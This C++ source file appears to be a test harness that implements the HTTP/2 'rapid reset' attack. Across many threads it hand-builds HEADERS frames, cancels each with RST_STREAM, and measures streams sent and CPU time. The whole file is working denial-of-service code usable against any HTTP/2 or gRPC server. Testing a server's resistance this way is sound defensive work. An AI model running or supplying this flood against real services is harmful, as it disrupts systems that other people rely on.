#include "http2_rapid_reset.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <string_view>
#include <vector>

namespace odmoe::test {
namespace {

double Now() {
  return std::chrono::duration<double>(std::chrono::steady_clock::now().time_since_epoch()).count();
}

uint64_t ThreadCpuNs() {
  timespec ts{};
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
  return static_cast<uint64_t>(ts.tv_sec) * 1000000000u + static_cast<uint64_t>(ts.tv_nsec);
}

// A frame header (RFC 9113 section 4.1).
void FrameHeader(std::string& out, uint32_t length, uint8_t type, uint8_t flags, uint32_t stream) {
  out.push_back(static_cast<char>(length >> 16));
  out.push_back(static_cast<char>(length >> 8));
  out.push_back(static_cast<char>(length));
  out.push_back(static_cast<char>(type));
  out.push_back(static_cast<char>(flags));
  out.push_back(static_cast<char>((stream >> 24) & 0x7f));
  out.push_back(static_cast<char>(stream >> 16));
  out.push_back(static_cast<char>(stream >> 8));
  out.push_back(static_cast<char>(stream));
}

// An HPACK string literal without Huffman coding (RFC 7541 section 5.2); the
// strings here are shorter than 127 bytes, so the length fits the prefix.
void HpackString(std::string& out, std::string_view s) {
  out.push_back(static_cast<char>(s.size()));
  out.append(s);
}

// The request's header block: static-table entries where they exist,
// literals without indexing (so the decoder's table never changes) otherwise.
std::string HeaderBlock(const std::string& path, const std::string& authority) {
  std::string b;
  b.push_back(static_cast<char>(0x83));  // :method POST (static 3)
  b.push_back(static_cast<char>(0x86));  // :scheme http (static 6)
  b.push_back(0x04);                     // :path (static name 4), literal value
  HpackString(b, path);
  b.push_back(0x01);  // :authority (static name 1)
  HpackString(b, authority);
  b.push_back(0x0f);  // content-type (static name 31 = 15 + 16)
  b.push_back(0x10);
  HpackString(b, "application/grpc");
  b.push_back(0x00);  // te: trailers, new name
  HpackString(b, "te");
  HpackString(b, "trailers");
  return b;
}

int Connect(const std::string& host, int port) {
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(port));
  inet_pton(AF_INET, host.c_str(), &addr.sin_addr);
  if (connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    close(fd);
    return -1;
  }
  const int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  return fd;
}

// Reads whatever the server sent so far; false when it closed the connection.
bool Drain(int fd) {
  char buf[65536];
  for (;;) {
    pollfd p{fd, POLLIN, 0};
    if (poll(&p, 1, 0) <= 0) return true;
    const ssize_t n = recv(fd, buf, sizeof(buf), MSG_DONTWAIT);
    if (n == 0) return false;
    if (n < 0) return errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR;
  }
}

bool SendAll(int fd, const std::string& data) {
  size_t sent = 0;
  while (sent < data.size()) {
    const ssize_t n = send(fd, data.data() + sent, data.size() - sent, MSG_NOSIGNAL);
    if (n <= 0) return false;
    sent += static_cast<size_t>(n);
  }
  return true;
}

}  // namespace

void RapidReset::Start() {
  started_ = Now();
  for (int i = 0; i < options_.connections; ++i) threads_.emplace_back([this] { Attack(); });
}

RapidReset::Result RapidReset::Stop() {
  if (threads_.empty()) return result_;
  stop_ = true;
  for (std::thread& t : threads_) t.join();
  threads_.clear();
  result_.streams = streams_.load();
  result_.connects = connects_.load();
  result_.seconds = Now() - started_;
  result_.cpu_seconds = static_cast<double>(cpu_ns_.load()) / 1e9;
  return result_;
}

void RapidReset::Attack() {
  const uint64_t cpu_start = ThreadCpuNs();
  const std::string block =
      HeaderBlock(options_.path, options_.host + ":" + std::to_string(options_.port));
  uint64_t sent = 0;
  const uint64_t most = options_.max_streams > 0 ? options_.max_streams : UINT64_MAX;
  while (!stop_ && sent < most) {
    const int fd = Connect(options_.host, options_.port);
    if (fd < 0) {
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
      continue;
    }
    ++connects_;
    std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    FrameHeader(hello, 0, /*SETTINGS*/ 0x4, 0, 0);
    bool open = SendAll(fd, hello);
    uint32_t stream = 1;
    std::string batch;
    while (open && !stop_ && sent < most && stream < 0x7ffff000u) {
      batch.clear();
      for (int i = 0; i < options_.streams_per_write; ++i, stream += 2) {
        FrameHeader(batch, static_cast<uint32_t>(block.size()), /*HEADERS*/ 0x1,
                    /*END_HEADERS*/ 0x4, stream);
        batch.append(block);
        FrameHeader(batch, 4, /*RST_STREAM*/ 0x3, 0, stream);
        batch.append({0, 0, 0, 0x8});  // CANCEL
      }
      open = SendAll(fd, batch) && Drain(fd);
      if (open) {
        streams_ += static_cast<uint64_t>(options_.streams_per_write);
        sent += static_cast<uint64_t>(options_.streams_per_write);
      }
    }
    close(fd);
  }
  cpu_ns_ += ThreadCpuNs() - cpu_start;
  ++finished_;
}

}  // namespace odmoe::test
